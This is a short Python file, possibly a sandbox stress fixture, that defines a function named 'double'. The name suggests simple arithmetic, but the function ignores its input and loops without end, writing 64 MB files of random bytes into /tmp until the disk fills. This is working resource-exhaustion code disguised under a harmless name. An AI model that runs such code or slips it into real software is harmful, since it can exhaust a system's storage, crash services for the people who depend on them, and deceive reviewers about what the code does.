"""Fills the one place that can be written to."""
import os


def double(x):
    number = 0
    while True:
        number += 1
        with open(f"/tmp/{number}", "wb") as file:
            for _ in range(64):
                file.write(os.urandom(1 << 20))
